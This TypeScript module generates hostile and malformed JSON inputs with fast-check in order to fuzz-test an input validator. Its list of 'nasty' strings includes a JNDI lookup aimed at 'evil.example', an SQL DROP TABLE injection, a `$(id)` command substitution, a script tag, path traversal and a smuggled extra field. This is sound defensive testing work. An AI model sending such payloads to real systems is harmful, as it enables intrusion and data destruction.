/** Generates inputs that nobody should send, as JSON text. */
import * as fc from 'fast-check';
import { RULES } from '../domain/input-rules.ts';
import { sampleInput } from '../domain/sample-input.ts';

/** The same seed on every run, so that a failure can be reproduced; `SEED` sets another. */
export const SEED = Number(process.env['SEED'] ?? 20_260_101);
/** How many inputs a test tries; `npm run test:slow` tries 10,000. */
export const MANY = Number(process.env['HOSTILE_INPUTS'] ?? 300);

/** Paths at which any value is allowed. */
const FREE_PATHS = ['build_body.more', 'more', 'build_body.deep.er', 'constructor', 'build_body.__proto__'];
const path = fc.oneof(
  { arbitrary: fc.constantFrom(...Object.keys(RULES)), weight: 9 },
  { arbitrary: fc.constantFrom(...FREE_PATHS), weight: 1 },
);

/** Characters that end lines, control terminals, break encodings or are special in some syntax. */
const nasty = fc.constantFrom(
  '\u0000',
  '\u001b[2J\u001b[31m',
  '\u009b31m',
  '\r\n',
  '\n  build_body.account_id: fake',
  '\u007f',
  '\u202e',
  '\u2028',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  '%00',
  '../',
  '${jndi:ldap://evil.example}',
  "'; DROP TABLE x; --",
  '`$(id)`',
  '<script>',
  '😀',
  'ü',
);
/** Includes lone surrogates. fast-check's own unit `binary` takes a second to create. */
export const anyCharacter = fc.nat({ max: 0x10ffff }).map((code) => String.fromCodePoint(code));
const text = fc.oneof(
  fc.string({ unit: anyCharacter, maxLength: 20 }),
  nasty,
  fc.tuple(fc.string({ maxLength: 5 }), nasty, fc.string({ maxLength: 5 })).map((parts) => parts.join('')),
  fc.constantFrom('', ' ', '__proto__', 'constructor', 'null', 'NaN', 'true', '0'),
);
const rawNumber = fc.constantFrom('1e400', '-1e400', '9007199254740993', '-0', '1e-400', '1.5', '0', '-1', '1e21');
const scalar = fc.oneof(
  text.map((value) => JSON.stringify(value)),
  rawNumber,
  fc.constantFrom('null', 'true', 'false'),
);

/** JSON text with duplicate keys and `__proto__` keys, which no JavaScript value can represent. */
const json: fc.Arbitrary<string> = fc.letrec<{ any: string; list: string; object: string }>((tie) => ({
  any: fc.oneof({ depthSize: 'small', withCrossShrink: true }, scalar, tie('list'), tie('object')),
  list: fc.array(tie('any'), { maxLength: 4 }).map((items) => `[${items.join()}]`),
  object: fc
    .array(fc.tuple(text, tie('any')), { maxLength: 4 })
    .map((entries) => `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join()}}`),
})).any;

const nested = fc
  .record({
    levels: fc.oneof(fc.integer({ min: 90, max: 110 }), fc.constantFrom(1_000, 10_000)),
    isList: fc.boolean(),
  })
  .map(({ levels, isList }) => {
    const [open, close] = isList ? ['[', ']'] : ['{"a":', '}'];
    return `${open.repeat(levels)}0${close.repeat(levels)}`;
  });

const VALUE = '"value-to-be-replaced"';

/** A good input with another value at a path; if `again` is set, the key occurs twice. */
const nearlyGood = fc
  .record({
    path,
    value: fc.oneof({ arbitrary: json, weight: 20 }, { arbitrary: nested, weight: 1 }),
    again: fc.option(json, { nil: undefined, freq: 4 }),
    isMissing: fc.nat({ max: 19 }).map((one) => one === 0),
  })
  .map(({ path: where, value, again, isMissing }) => {
    const input = structuredClone(sampleInput()) as unknown as Record<string, unknown>;
    const parents = where.split('.');
    const key = parents.pop() as string;
    let holder = input;
    for (const parent of parents) {
      if (!Object.hasOwn(holder, parent)) holder[parent] = {};
      holder = holder[parent] as Record<string, unknown>;
    }
    if (isMissing) delete holder[key];
    else Object.defineProperty(holder, key, { value: VALUE.slice(1, -1), enumerable: true, configurable: true });
    const first = `${JSON.stringify(key)}:${value}`;
    const both = again === undefined ? first : `${first},${JSON.stringify(key)}:${again}`;
    return JSON.stringify(input).replace(`${JSON.stringify(key)}:${VALUE}`, () => both);
  });

const broken = fc.oneof(
  text,
  fc
    .tuple(nearlyGood, fc.double({ min: 0, max: 1, noNaN: true }))
    .map(([whole, part]) => whole.slice(0, Math.floor(whole.length * part))),
  fc.constantFrom('', '{', 'undefined', "{'a':1}", '{"a":1,}', '\u0000', '\ufeff{}', '[1,2', '{"a":01}', 'NaN'),
);

export const hostileInput: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: nearlyGood, weight: 8 },
  { arbitrary: json, weight: 2 },
  { arbitrary: broken, weight: 1 },
);

const MIB = 2 ** 20;

/** Inputs above the size limit. Not generated, since each takes long to check. */
export function oversizedInputs(): { name: string; text: string }[] {
  const good = JSON.stringify(sampleInput());
  const filled = (key: string, filler: string) => good.replace('"dry_run"', () => `"${key}":${filler},"dry_run"`);
  return [
    { name: '10 MiB in a string', text: filled('x', `"${'x'.repeat(10 * MIB)}"`) },
    { name: '10 MiB in a credential', text: good.replace('"ciphertext"', () => `"${'x'.repeat(10 * MIB)}"`) },
    { name: '10 MiB of small numbers', text: filled('x', `[${'0,'.repeat(5 * MIB)}0]`) },
    { name: '10 MiB of escapes', text: filled('x', `"${'\\u0000'.repeat(1.7 * MIB)}"`) },
    { name: 'a key of 10 MiB', text: filled('k'.repeat(10 * MIB), '0') },
    { name: 'just above the limit', text: filled('x', `"${'x'.repeat(1_500_000)}"`) },
  ];
}

/** Inputs within the size limit with more faults than a message can hold. */
export function faultyInputs(): { name: string; text: string }[] {
  const good = JSON.stringify(sampleInput());
  const filled = (key: string, filler: string) => good.replace('"dry_run"', () => `"${key}":${filler},"dry_run"`);
  return [
    { name: '180,000 numbers that are too large', text: filled('x', `[${'1e300,'.repeat(180_000)}1e300]`) },
    { name: 'a fault under a key of 1.4 MB', text: filled('k'.repeat(1_400_000), '1e300') },
    { name: 'a fault under a key that is no Unicode', text: filled('\\ud800', '1e300') },
    { name: 'a url of 1.4 MB', text: good.replace('https://builds', () => `https://${'a'.repeat(1_400_000)}`) },
    { name: '400,000 levels', text: filled('x', `${'['.repeat(400_000)}${']'.repeat(400_000)}`) },
  ];
}

export function isJson(candidate: string): boolean {
  try {
    JSON.parse(candidate);
    return true;
  } catch {
    return false;
  }
}
